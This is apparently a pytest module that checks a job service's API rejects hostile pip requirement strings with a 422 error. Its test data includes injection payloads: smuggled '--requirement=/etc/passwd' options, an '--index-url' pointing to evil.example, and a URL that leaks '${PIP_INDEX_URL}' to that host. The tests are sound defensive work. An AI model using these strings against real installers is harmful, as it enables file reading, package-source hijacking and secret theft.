"""Hostile requirements, archives and uploads of code are refused in words, and stall nothing."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from tests.support.service.live_server import LiveServer, live_server
from tests.support.waiting import DEADLINE_S


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    folder: Path = tmp_path_factory.mktemp("hostile-code")
    with live_server(folder) as server:
        yield server


@pytest.fixture
def http(served: LiveServer) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=served.address, timeout=DEADLINE_S, trust_env=False) as client:
        yield client


def refused(answer: httpx.Response, *statuses: int) -> dict[str, Any]:
    """Check that the answer is a problem; return it."""
    assert answer.status_code in statuses, (answer.status_code, answer.text[:300])
    problem: dict[str, Any] = answer.json()
    assert problem["code"] and problem["detail"]
    assert "Traceback" not in answer.text
    return problem


REQUIREMENTS = {
    "an option": "--requirement=/etc/passwd",
    "a second line": "x @ https://h/x.whl\n--requirement=/etc/passwd",
    "a second line for pip alone": "x @ https://h/x.whl\u2028--requirement=/etc/passwd",
    "an option as an address": "x @ --requirement=/etc/passwd",
    "an option in a marker": "x; python_version > '3 --index-url=https://evil.example'",
    "a continued line": "x @ https://h/x.whl\\",
    "a variable of the node": "x @ https://evil.example/${PIP_INDEX_URL}",
    "a NUL": "x @ https://h/\0",
    "an escape sequence": "x @ https://h/\x1b[2J",
    "a password": "x @ https://me:word@example.org/x.whl",
    "a token": "x @ https://token@example.org/x.whl",
    "nothing": "",
}


@pytest.mark.parametrize("name", REQUIREMENTS)
def test_a_requirement_that_is_more_than_one_is_refused(http: httpx.Client, name: str) -> None:
    document = {"name": "x", "runtime_env": {"pip": [REQUIREMENTS[name]]}}
    problem = refused(http.post("/api/v1/jobs", json=document), 422)
    assert all(fault["path"].startswith("runtime_env.pip") for fault in problem["faults"]), problem
